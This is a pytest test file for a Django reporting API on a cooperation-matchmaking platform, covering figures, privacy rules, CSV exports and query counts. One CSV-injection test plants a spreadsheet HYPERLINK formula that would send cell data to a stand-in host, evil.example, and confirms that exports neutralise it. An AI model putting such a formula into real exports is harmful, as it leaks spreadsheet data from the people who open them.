"""The reports against the strategic plans: exact figures on a small hand-built history, privacy,
filters, CSV that parses back to the same figures, streamed exports, query counts and the schema."""

import csv
import datetime
import io
import json
from types import SimpleNamespace

import pytest
from django.core.exceptions import ValidationError
from django.urls import include, path
from django.utils import timezone
from drf_spectacular.drainage import GENERATOR_STATS
from drf_spectacular.generators import SchemaGenerator
from drf_spectacular.renderers import OpenApiJsonRenderer
from openapi_spec_validator import validate

from api.reports.csv_files import cell
from matchmaking.choices import MatchStatus
from matchmaking.models import (
    Match,
    MatchEvent,
    Membership,
    Objective,
    Opportunity,
    Organization,
    Outcome,
    OutcomeIndicator,
)
from matchmaking.reports import base, exports, figures, gaps, needs, timing
from tests.conftest import make_opportunity, make_user

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports/"


def at(month, day, year=2025):
    """Noon UTC, so that durations are whole days."""
    return datetime.datetime(year, month, day, 12, tzinfo=datetime.UTC)


def opportunity(organization, direction, title, published, kind, themes, objectives, status="open", **data):
    created = make_opportunity(
        organization,
        direction,
        title,
        cooperation_type_id=kind,
        themes=themes,
        objectives=list(Objective.objects.filter(code__in=objectives)),
        status="draft" if status == "draft" else "open",
        **data,
    )
    if status != "draft":
        Opportunity.objects.filter(pk=created.pk).update(
            published_at=published, created_at=published, status=status
        )
    created.refresh_from_db()
    return created


def match(request, offer, *steps):
    """A match that went through `steps`, (status, moment) pairs, each with its MatchEvent."""
    created = Match.objects.create(
        request=request, offer=offer, initiated_by=request.organization, status=steps[-1][0]
    )
    Match.objects.filter(pk=created.pk).update(created_at=steps[0][1])
    previous = ""
    for status, moment in steps:
        event = MatchEvent.objects.create(match=created, from_status=previous, to_status=status)
        MatchEvent.objects.filter(pk=event.pk).update(created_at=moment)
        previous = status
    return created


def outcome(of, achieved_on, objectives, indicators, is_private=False):
    created = Outcome.objects.create(
        match=of, summary=f"Outcome of {of.request.title}", achieved_on=achieved_on, is_private=is_private
    )
    created.objectives.set(Objective.objects.filter(code__in=objectives))
    for key, value, label in indicators:
        OutcomeIndicator.objects.create(outcome=created, key=key, value=value, label=label)
    return created


P, A, IP, C, D = (
    MatchStatus.PROPOSED,
    MatchStatus.ACCEPTED,
    MatchStatus.IN_PROGRESS,
    MatchStatus.COMPLETED,
    MatchStatus.DECLINED,
)


def build_history(party, institute):
    """Three offers (one closed) and a draft; five requests and a draft; four matches; two outcomes,
    one of them private. The expected figures in the tests below are counted from here by hand."""
    kenya = Organization.objects.create(name="Kenya CHM focal point", kind="party", country_id="KE")
    peru = Organization.objects.create(name="Peru CHM focal point", kind="party", country_id="PE")
    moldova = Organization.objects.create(name="Moldova CHM focal point", kind="party", country_id="MD")
    ngo = Organization.objects.create(name="Open Data NGO", kind="ngo", country_id="DE")
    h = SimpleNamespace(kenya=kenya, peru=peru, moldova=moldova, ngo=ngo)
    h.o1 = opportunity(
        institute, "offer", "Hosting", at(1, 10), "hosting", ["information_systems"], ["3.1"], capacity=2
    )
    h.o2 = opportunity(
        institute, "offer", "Training", at(2, 1), "training", ["information_systems", "cepa"],
        ["1.1", "GBF-TARGET-20"], capacity=3,
    )  # fmt: skip
    h.o3 = opportunity(ngo, "offer", "Grants", at(2, 15), "funding", ["taxonomy"], ["1.1"], status="closed")
    h.o4 = opportunity(ngo, "offer", "Draft offer", None, "research", ["taxonomy"], ["2.2"], status="draft")
    h.r1 = opportunity(
        party, "request", "Host our site", at(1, 20), "hosting", ["information_systems"], ["3.1"]
    )
    h.r2 = opportunity(kenya, "request", "Train webmasters", at(3, 1), "training", ["cepa"], ["1.1"])
    h.r3 = opportunity(peru, "request", "Taxonomy grants", at(4, 15), "funding", ["taxonomy"], ["1.1"])
    h.r4 = opportunity(
        moldova, "request", "Barcoding", at(7, 1), "technology_transfer", ["biosafety"], ["1.2"]
    )
    h.r5 = opportunity(party, "request", "More training", at(10, 1), "training", ["cepa"], ["3.1"])
    h.r6 = opportunity(party, "request", "Draft request", None, "training", ["cepa"], ["3.1"], status="draft")
    Opportunity.objects.filter(pk__in=[h.r1.pk, h.r2.pk]).update(status="closed")

    h.m1 = match(h.r1, h.o1, (P, at(1, 30)), (A, at(2, 9)), (IP, at(2, 20)), (C, at(5, 10)))
    h.m2 = match(h.r2, h.o2, (P, at(3, 5)), (D, at(3, 10)))
    h.m3 = match(h.r2, h.o2, (P, at(3, 21)), (A, at(3, 31)), (IP, at(4, 10)), (C, at(6, 30)))
    h.m4 = match(h.r3, h.o3, (P, at(5, 15)))
    h.oc1 = outcome(h.m1, datetime.date(2025, 5, 10), ["3.1"], [("websites_hosted", 1, "")])
    h.oc2 = outcome(
        h.m3,
        datetime.date(2025, 6, 30),
        ["1.1", "GBF-TARGET-20"],
        [("people_trained", 12, ""), ("other", 2, "Manuals written")],
        is_private=True,
    )
    return h


@pytest.fixture
def history(party, institute):
    return build_history(party, institute)


@pytest.fixture
def kenya_member(history):
    user = make_user("kenya_viewer")
    Membership.objects.create(user=user, organization=history.kenya, role="viewer")
    return user


def public(**filters):
    return base.ReportFilters(**filters)


def as_user(user, **filters):
    return base.ReportFilters(user=user, **filters)


NO_MATCHES = dict.fromkeys(["total", *MatchStatus.values], 0)
NO_INDICATORS = dict.fromkeys(base.TOTALLED_INDICATORS, 0)


def matches(**counts):
    return {**NO_MATCHES, "total": sum(counts.values()), **counts}


def indicators(**totals):
    return {**NO_INDICATORS, **totals}


# --------------------------------------------------------------------------- summary


def test_summary_counts_public_figures(history):
    assert figures.summary(public()) == {
        "offers": 3,
        "requests": 5,
        "open_offers": 2,
        "open_requests": 3,
        "matches": matches(proposed=1, declined=1, completed=2),
        "countries_helped": 2,
        "outcomes": 1,
        "indicators": indicators(websites_hosted=1),
    }


def test_private_outcome_counts_for_staff_and_members_involved_only(
    history, staff, kenya_member, institute_editor, party_editor, outsider
):
    def seen(user):
        totals = figures.summary(as_user(user))
        return totals["outcomes"], totals["indicators"]["people_trained"]

    assert seen(staff) == (2, 12)
    assert seen(kenya_member) == (2, 12)  # the requesting side
    assert seen(institute_editor) == (2, 12)  # the offering side
    assert seen(party_editor) == (1, 0)
    assert seen(outsider) == (1, 0)
    assert seen(None) == (1, 0)


def test_drafts_never_count(history, staff):
    totals = figures.summary(as_user(staff))
    assert (totals["offers"], totals["requests"]) == (3, 5)


def test_opportunities_waiting_for_approval_or_hidden_never_count(history, staff):
    Opportunity.objects.filter(pk=history.o1.pk).update(moderation="pending")
    Opportunity.objects.filter(pk=history.r3.pk).update(moderation="hidden")
    totals = figures.summary(as_user(staff))
    assert (totals["offers"], totals["requests"], totals["open_offers"], totals["open_requests"]) == (
        2,
        4,
        1,
        2,
    )
    assert totals["matches"] == matches(declined=1, completed=1)  # m1 and m4 went with them


def test_summary_of_an_empty_database(db):
    assert figures.summary(public()) == {
        "offers": 0,
        "requests": 0,
        "open_offers": 0,
        "open_requests": 0,
        "matches": NO_MATCHES,
        "countries_helped": 0,
        "outcomes": 0,
        "indicators": NO_INDICATORS,
    }


# --------------------------------------------------------------------------- objectives


def by_objective(rows):
    return {row["objective"]: row for row in rows}


def test_objectives_figures(history):
    rows = by_objective(figures.objectives(public(framework="CHM-2010")))
    assert list(rows)[:3] == ["1.1", "1.2", "1.3"]
    assert len(rows) == 12
    one = rows["1.1"]
    assert (one["framework"], one["goal"], one["goal_title"]) == ("CHM-2010", "1", "Cooperation")
    assert one["title"].startswith("The clearing-house mechanism contributes")
    assert {k: one[k] for k in ("offers", "requests", "open_offers", "open_requests")} == {
        "offers": 2,
        "requests": 2,
        "open_offers": 1,
        "open_requests": 1,
    }
    # m2 and m3 serve 1.1 through both their request and their offer: counted once each.
    assert one["matches"] == matches(proposed=1, declined=1, completed=1)
    assert (one["outcomes"], one["indicators"]) == (0, NO_INDICATORS)  # its outcome is private
    assert rows["1.2"]["open_requests"] == 1 and rows["1.2"]["matches"] == NO_MATCHES
    three = rows["3.1"]
    assert (three["offers"], three["requests"], three["open_offers"], three["open_requests"]) == (1, 2, 1, 1)
    assert three["matches"] == matches(completed=1)
    assert (three["outcomes"], three["indicators"]) == (1, indicators(websites_hosted=1))
    assert rows["2.2"]["offers"] == 0  # only a draft serves it


def test_objectives_count_private_outcomes_for_staff(history, staff):
    rows = by_objective(figures.objectives(as_user(staff)))
    assert (rows["1.1"]["outcomes"], rows["1.1"]["indicators"]) == (1, indicators(people_trained=12))
    target = rows["GBF-TARGET-20"]
    assert target["framework"] == "GBF" and target["goal"] is None
    assert (target["offers"], target["open_offers"], target["requests"]) == (1, 1, 0)
    assert target["matches"] == matches(declined=1, completed=1)
    assert target["outcomes"] == 1


def test_objectives_of_one_framework(history):
    rows = figures.objectives(public(framework="GBF"))
    assert {row["framework"] for row in rows} == {"GBF"}
    assert len(rows) == 23


# --------------------------------------------------------------------------- breakdowns


def figures_of(row):
    return (
        row["offers"],
        row["requests"],
        row["open_offers"],
        row["open_requests"],
        row["matches"]["total"],
        row["outcomes"],
    )


def test_breakdown_by_un_group(history):
    rows = {row["key"]: row for row in figures.breakdown(public(), "un_group")}
    assert list(rows) == ["AFR", "EEG", "GRULAC", "WEOG"]  # by label; APAC has nothing
    assert rows["AFR"]["label"] == "African States"
    assert figures_of(rows["AFR"]) == (0, 3, 0, 1, 3, 1)
    assert rows["AFR"]["matches"] == matches(declined=1, completed=2)
    assert rows["AFR"]["indicators"] == indicators(websites_hosted=1)
    assert figures_of(rows["EEG"]) == (0, 1, 0, 1, 0, 0)
    assert figures_of(rows["GRULAC"]) == (0, 1, 0, 1, 1, 0)
    assert figures_of(rows["WEOG"]) == (3, 0, 2, 0, 0, 0)


def test_breakdown_by_offer_side(history):
    rows = {row["key"]: row for row in figures.breakdown(public(), "cooperation_type", side="offer")}
    assert {key: row["matches"]["total"] for key, row in rows.items()} == {
        "funding": 1,
        "hosting": 1,
        "technology_transfer": 0,
        "training": 2,
    }
    assert rows["hosting"]["label"] == "Hosting"


def test_breakdown_by_quarter_has_every_quarter_in_order(history):
    rows = figures.breakdown(public(), "quarter")
    assert [row["key"] for row in rows] == ["2025-Q1", "2025-Q2", "2025-Q3", "2025-Q4"]
    assert [figures_of(row) for row in rows] == [
        (3, 2, 2, 0, 3, 0),
        (0, 1, 0, 1, 1, 1),
        (0, 1, 0, 1, 0, 0),
        (0, 1, 0, 1, 0, 0),
    ]


def test_breakdown_by_year_theme_kind_and_country(history):
    assert [
        (r["key"], r["requests"], r["matches"]["total"]) for r in figures.breakdown(public(), "year")
    ] == [(2025, 5, 4)]
    themes = {row["key"]: figures_of(row) for row in figures.breakdown(public(), "theme")}
    assert themes["cepa"] == (1, 2, 1, 1, 2, 0)
    assert themes["biosafety"] == (0, 1, 0, 1, 0, 0)
    kinds = {row["label"]: row["offers"] for row in figures.breakdown(public(), "organization_kind")}
    assert kinds == {"Institute": 2, "Non-governmental organization": 1, "Party (national focal point)": 0}
    countries = {row["key"]: row["requests"] for row in figures.breakdown(public(), "country")}
    assert countries == {"BE": 0, "CD": 2, "DE": 0, "KE": 1, "MD": 1, "PE": 1}


def test_period_filter_bounds_each_table_by_its_own_date(history, staff):
    quarter = {"date_from": datetime.date(2025, 4, 1), "date_to": datetime.date(2025, 6, 30)}
    totals = figures.summary(as_user(staff, **quarter))
    assert (totals["offers"], totals["requests"], totals["open_requests"]) == (0, 1, 1)  # r3
    assert totals["matches"] == matches(proposed=1)  # m4
    assert totals["outcomes"] == 2  # both, achieved on 10 May and on 30 June (inclusive)


def test_framework_filter(history, staff):
    totals = figures.summary(as_user(staff, framework="GBF"))
    assert (totals["offers"], totals["open_offers"], totals["requests"]) == (1, 1, 0)
    assert totals["matches"] == matches(declined=1, completed=1)
    assert (totals["outcomes"], totals["indicators"]["people_trained"]) == (1, 12)


def test_period_must_not_end_before_it_starts():
    with pytest.raises(ValidationError):
        base.ReportFilters(date_from=datetime.date(2025, 2, 1), date_to=datetime.date(2025, 1, 1))


# --------------------------------------------------------------------------- gaps


def test_objectives_and_themes_with_requests_and_no_offer(history):
    assert [(r["objective"], r["open_requests"]) for r in gaps.uncovered_objectives(public())] == [("1.2", 1)]
    assert [(r["theme"], r["open_requests"]) for r in gaps.uncovered_themes(public())] == [
        ("taxonomy", 1),  # its only offer is closed
        ("biosafety", 1),
    ]


def test_open_offers_of_any_date_close_a_gap(history):
    later = public(date_from=datetime.date(2025, 4, 1))  # o1 and o2 were published before
    assert [row["objective"] for row in gaps.uncovered_objectives(later)] == ["1.2"]
    assert [row["theme"] for row in gaps.uncovered_themes(later)] == ["taxonomy", "biosafety"]


def test_requests_waiting_longest_without_interest(history):
    rows = gaps.unanswered_requests(public())
    assert [row["id"] for row in rows] == [history.r4.pk, history.r5.pk]
    assert rows[0]["days_open"] == (timezone.now() - at(7, 1)).days
    assert (rows[0]["country"], rows[0]["un_group"], rows[0]["cooperation_type"]) == (
        "MD",
        "EEG",
        "technology_transfer",
    )
    assert [row["id"] for row in gaps.unanswered_requests(public(), limit=1)] == [history.r4.pk]


def test_regions_whose_requests_go_unanswered(history):
    rows = gaps.unanswered_by_region(public())
    assert [
        (r["key"], r["requests"], r["open_requests"], r["without_interest"], r["share_without_interest"])
        for r in rows
    ] == [("AFR", 3, 1, 1, 1.0), ("EEG", 1, 1, 1, 1.0), ("GRULAC", 1, 1, 0, 0.0)]
    assert rows[0]["oldest_without_interest"] == at(10, 1)
    assert rows[2]["oldest_without_interest"] is None
    countries = gaps.unanswered_by_region(public(), by="country")
    assert [(r["key"], r["without_interest"]) for r in countries] == [("CD", 1), ("MD", 1), ("PE", 0)]


# --------------------------------------------------------------------------- time to match


def spread(median, p90):
    return {"median": median, "p90": p90}


def test_time_to_match_overall(history):
    [row] = timing.time_to_match(public())
    assert row == {
        "key": "all",
        "label": "All requests",
        "requests": 5,
        "with_interest": 3,
        "with_acceptance": 2,
        "days_to_interest": spread(10.0, 26.0),  # 4, 10 and 30 days
        "days_to_acceptance": spread(25.0, 29.0),  # 20 and 30 days
        "proposals": 4,
        "expired": 0,
        "share_expired": 0.0,
        "days_to_answer": spread(10.0, 10.0),  # 10, 5 and 10 days; one not answered
    }


def test_expired_proposals_count_in_the_time_to_match(history):
    E = MatchStatus.EXPIRED
    match(history.r5, history.o2, (P, at(10, 2)), (E, at(11, 1)))
    match(history.r4, history.o1, (P, at(7, 2)), (E, at(8, 1)))
    [row] = timing.time_to_match(public())
    assert (row["proposals"], row["expired"], row["share_expired"]) == (6, 2, 0.333)
    assert row["days_to_answer"] == spread(10.0, 10.0)  # an expired proposal was never answered
    assert row["with_interest"] == 5  # interest was expressed, though never answered
    by_type = {r["key"]: r for r in timing.time_to_match(public(), "cooperation_type")}
    assert (by_type["training"]["proposals"], by_type["training"]["expired"]) == (3, 1)
    assert by_type["funding"]["share_expired"] == 0.0
    assert by_type["technology_transfer"]["share_expired"] == 1.0
    assert timing.proposal_answers(public()) == {
        "proposals": 6,
        "expired": 2,
        "share_expired": 0.333,
        "days_to_answer": spread(10.0, 10.0),
    }
    assert timing.proposal_answers(public(date_from=datetime.date(2025, 12, 1)))["share_expired"] is None


def test_api_time_to_match_reports_expired_proposals_and_the_time_to_first_answer(client, history):
    match(history.r5, history.o2, (P, at(10, 2)), (MatchStatus.EXPIRED, at(11, 1)))
    [row] = get(client, "time-to-match/").json()["results"]
    assert (row["proposals"], row["expired"], row["share_expired"]) == (5, 1, 0.2)
    assert row["days_to_answer"] == spread(10.0, 10.0)


def test_time_to_match_per_cooperation_type_un_group_and_quarter(history):
    by_type = {row["key"]: row for row in timing.time_to_match(public(), "cooperation_type")}
    assert list(by_type) == ["funding", "hosting", "technology_transfer", "training"]
    assert by_type["training"]["requests"] == 2
    assert by_type["training"]["days_to_interest"] == spread(4.0, 4.0)
    assert by_type["training"]["days_to_acceptance"] == spread(30.0, 30.0)
    assert by_type["technology_transfer"]["days_to_interest"] == spread(None, None)
    by_group = {row["key"]: row for row in timing.time_to_match(public(), "un_group")}
    assert by_group["AFR"]["days_to_interest"] == spread(7.0, 9.4)
    assert by_group["AFR"]["days_to_acceptance"] == spread(25.0, 29.0)
    by_quarter = timing.time_to_match(public(), "quarter")
    assert [(r["key"], r["requests"], r["days_to_interest"]["median"]) for r in by_quarter] == [
        ("2025-Q1", 2, 7.0),
        ("2025-Q2", 1, 30.0),
        ("2025-Q3", 1, None),
        ("2025-Q4", 1, None),
    ]


def test_percentile_interpolates_like_percentile_cont():
    assert timing.percentile([], 0.5) is None
    assert timing.percentile([5], 0.9) == 5
    assert timing.percentile([1, 2, 3, 4], 0.5) == 2.5
    assert timing.percentile([10, 0, 20], 0.9) == pytest.approx(18.0)


# --------------------------------------------------------------------------- API


def get(client, path, **params):
    response = client.get(URL + path, params)
    assert response.status_code == 200, response.content
    return response


def parse_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode())))


def flat(row, prefix=""):
    out = {}
    for key, value in row.items():
        if isinstance(value, dict):
            out.update(flat(value, f"{prefix}{key}_"))
        else:
            out[prefix + key] = "" if value is None else str(value)
    return out


@pytest.mark.parametrize(
    "path, params",
    [
        ("summary/", {}),
        ("objectives/", {"framework": "CHM-2010"}),
        ("breakdown/", {"by": "quarter"}),
        ("breakdown/", {"by": "theme", "side": "offer"}),
        ("gaps/objectives/", {}),
        ("gaps/themes/", {}),
        ("gaps/unanswered-requests/", {"limit": 5}),
        ("gaps/regions/", {"by": "country"}),
        ("time-to-match/", {"by": "un_group"}),
        ("needs/", {}),
    ],
)
def test_csv_parses_back_to_the_json_figures(client, history, path, params):
    results = get(client, path, **params).json()["results"]
    csv_response = get(client, path, **params, format="csv")
    assert csv_response["Content-Disposition"].startswith("attachment; filename=")
    rows = results if isinstance(results, list) else [results]
    assert parse_csv(csv_response) == [flat(row) for row in rows]
    assert rows


def test_api_objectives_figures(client, history):
    rows = {row["objective"]: row for row in get(client, "objectives/").json()["results"]}
    assert rows["3.1"]["matches"]["completed"] == 1
    assert rows["3.1"]["indicators"]["websites_hosted"] == 1
    assert rows["1.1"]["open_requests"] == 1


def test_api_counts_private_outcomes_for_members_involved(client_for, history, kenya_member):
    client = client_for("anonymous")
    assert get(client, "summary/").json()["results"]["outcomes"] == 1
    client.force_authenticate(kenya_member)
    assert get(client, "summary/").json()["results"]["outcomes"] == 2


def test_api_filters(client, history):
    results = get(client, "summary/", date_from="2025-04-01", date_to="2025-06-30").json()["results"]
    assert (results["requests"], results["matches"]["total"], results["outcomes"]) == (1, 1, 1)
    results = get(client, "summary/", framework="GBF").json()["results"]
    assert (results["offers"], results["requests"]) == (1, 0)


@pytest.mark.parametrize(
    "path, params, field",
    [
        ("summary/", {"date_from": "2025-02-01", "date_to": "2025-01-01"}, "date_to"),
        ("summary/", {"date_from": "not a date"}, "date_from"),
        ("objectives/", {"framework": "NOPE"}, "framework"),
        ("breakdown/", {"by": "planet"}, "by"),
        ("time-to-match/", {"by": "theme"}, "by"),
        ("gaps/unanswered-requests/", {"limit": 0}, "limit"),
        ("export/postings/", {"objective": "9.9"}, "objective"),
        ("export/matches/", {"status": "lost"}, "status"),
    ],
)
def test_api_rejects_bad_parameters(client, path, params, field):
    response = client.get(URL + path, params)
    assert response.status_code == 400
    assert field in response.json()


def test_unknown_format_is_not_found(client):
    assert client.get(URL + "summary/", {"format": "xml"}).status_code == 404


def test_empty_report_csv_still_has_its_header(client, db):
    rows = get(client, "gaps/themes/", format="csv").content.decode().splitlines()
    assert rows == ["theme,label,open_requests"]


# --------------------------------------------------------------------------- exports


def test_export_opportunities_streams_what_the_user_may_see(client_for, history, party_editor):
    response = get(client_for("anonymous"), "export/postings/")
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="postings.csv"'
    rows = parse_csv(response)
    assert len(rows) == 8  # no drafts
    o2 = next(row for row in rows if row["id"] == str(history.o2.pk))
    assert (o2["direction"], o2["un_group"], o2["themes"], o2["objectives"]) == (
        "offer",
        "WEOG",
        "cepa information_systems",
        "1.1 GBF-TARGET-20",
    )
    own_draft = {row["id"] for row in parse_csv(get(client_for("party_editor"), "export/postings/"))}
    assert history.r6.pk in {int(pk) for pk in own_draft}


def test_no_csv_cell_is_a_formula(client, history):
    """CSV injection: text that a spreadsheet would run as a formula comes out as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    Opportunity.objects.filter(pk=history.o2.pk).update(title=formula)
    Opportunity.objects.filter(pk=history.r4.pk).update(title="@SUM(1+1)")
    exported = {int(row["id"]): row["title"] for row in parse_csv(get(client, "export/postings/"))}
    assert exported[history.o2.pk] == "'" + formula
    assert exported[history.r4.pk] == "'@SUM(1+1)"
    unanswered = parse_csv(get(client, "gaps/unanswered-requests/", format="csv"))
    assert "'@SUM(1+1)" in {row["title"] for row in unanswered}
    for text in ("+1", "-1", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert (cell(-1), cell("plain"), cell("a=b")) == (-1, "plain", "a=b")


def test_export_opportunities_drills_down_to_an_objectives_open_offers(client, history):
    rows = parse_csv(get(client, "export/postings/", objective="1.1", direction="offer", live="true"))
    assert [int(row["id"]) for row in rows] == [history.o2.pk]
    rows = parse_csv(get(client, "export/postings/", un_group="AFR", format="csv"))
    assert {int(row["id"]) for row in rows} == {history.r1.pk, history.r2.pk, history.r5.pk}


def test_export_matches_lists_only_the_users_organizations_matches(
    client_for, history, staff, institute_editor
):
    def seen(who, **params):
        return {int(row["id"]) for row in parse_csv(get(client_for(who), "export/matches/", **params))}

    assert seen("anonymous") == set()
    assert seen("institute_editor") == {history.m1.pk, history.m2.pk, history.m3.pk}
    assert seen("staff") == {history.m1.pk, history.m2.pk, history.m3.pk, history.m4.pk}
    assert seen("staff", objective="3.1") == {history.m1.pk}
    assert seen("staff", status="proposed", un_group="GRULAC") == {history.m4.pk}
    row = parse_csv(get(client_for("staff"), "export/matches/"))[0]
    assert row["accepted_at"] == at(2, 9).isoformat()
    assert row["outcome_id"] == str(history.oc1.pk)


def test_export_outcomes_with_indicator_totals(client_for, history, staff):
    assert [int(r["id"]) for r in parse_csv(get(client_for("anonymous"), "export/outcomes/"))] == [
        history.oc1.pk
    ]
    rows = parse_csv(get(client_for("staff"), "export/outcomes/"))
    private = next(row for row in rows if row["id"] == str(history.oc2.pk))
    assert (private["people_trained"], private["is_private"], private["objectives"]) == (
        "12",
        "True",
        "1.1 GBF-TARGET-20",
    )
    assert private["other_indicators"] == "Manuals written: 2"


# --------------------------------------------------------------------------- query counts


def add_more_history(history):
    """More of everything, to show the query counts do not grow with the data."""
    for number in range(5):
        request = opportunity(
            history.kenya,
            "request",
            f"More {number}",
            at(8, number + 1),
            "hosting",
            ["forest"],
            ["3.1", "2.2"],
        )
        made = match(request, history.o2, (P, at(8, number + 3)), (A, at(8, number + 5)), (C, at(9, 1)))
        outcome(made, datetime.date(2025, 9, 1), ["3.1"], [("people_trained", 3, "")])


REPORT_QUERIES = [
    (figures.summary, {}, 3),
    (figures.objectives, {}, 2),
    (figures.breakdown, {"by": "theme"}, 3),
    (figures.breakdown, {"by": "quarter"}, 3),
    (gaps.uncovered_objectives, {}, 1),
    (gaps.uncovered_themes, {}, 1),
    (gaps.unanswered_requests, {}, 1),
    (gaps.unanswered_by_region, {}, 1),
    (timing.time_to_match, {"by": "cooperation_type"}, 2),
    (timing.proposal_answers, {}, 1),
    (needs.tables, {}, 1),
]


@pytest.mark.parametrize("report, params, queries", REPORT_QUERIES)
def test_each_report_takes_a_fixed_number_of_queries(
    report, params, queries, history, kenya_member, django_assert_num_queries
):
    filters = as_user(kenya_member, date_from=datetime.date(2024, 1, 1), framework="CHM-2010")
    with django_assert_num_queries(queries):
        report(filters, **params)
    add_more_history(history)
    with django_assert_num_queries(queries):
        report(filters, **params)


def test_exports_read_in_chunks_with_a_fixed_number_of_queries(history, staff, django_assert_num_queries):
    add_more_history(history)
    for rows, queries in ((exports.opportunity_rows, 3), (exports.match_rows, 1), (exports.outcome_rows, 3)):
        with django_assert_num_queries(queries):
            assert len(list(rows(as_user(staff)))) > 6


def test_report_endpoint_query_count(client, history, django_assert_max_num_queries):
    with django_assert_max_num_queries(3):  # the objectives, then the outcomes
        get(client, "objectives/", format="csv")
    with django_assert_max_num_queries(4):  # the framework, then the opportunities, matches and outcomes
        get(client, "breakdown/", by="un_group", framework="GBF")


# --------------------------------------------------------------------------- schema


def test_schema_documents_the_reports_without_warnings():
    GENERATOR_STATS.reset()
    generator = SchemaGenerator(patterns=[path("api/v1/reports/", include("api.reports.urls"))])
    schema = json.loads(OpenApiJsonRenderer().render(generator.get_schema(public=True), renderer_context={}))
    assert not GENERATOR_STATS, "warnings or errors while generating the schema"
    validate(schema)
    assert len(schema["paths"]) == 13
    summary = schema["paths"]["/api/v1/reports/summary/"]["get"]
    assert {"date_from", "date_to", "framework", "format"} <= {p["name"] for p in summary["parameters"]}
    assert set(summary["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    breakdown = schema["paths"]["/api/v1/reports/breakdown/"]["get"]
    [by] = [p for p in breakdown["parameters"] if p["name"] == "by"]
    assert by["schema"]["enum"] == list(base.BREAKDOWNS)
    export = schema["paths"]["/api/v1/reports/export/outcomes/"]["get"]
    assert set(export["responses"]["200"]["content"]) == {"text/csv"}
    assert "400" in export["responses"]
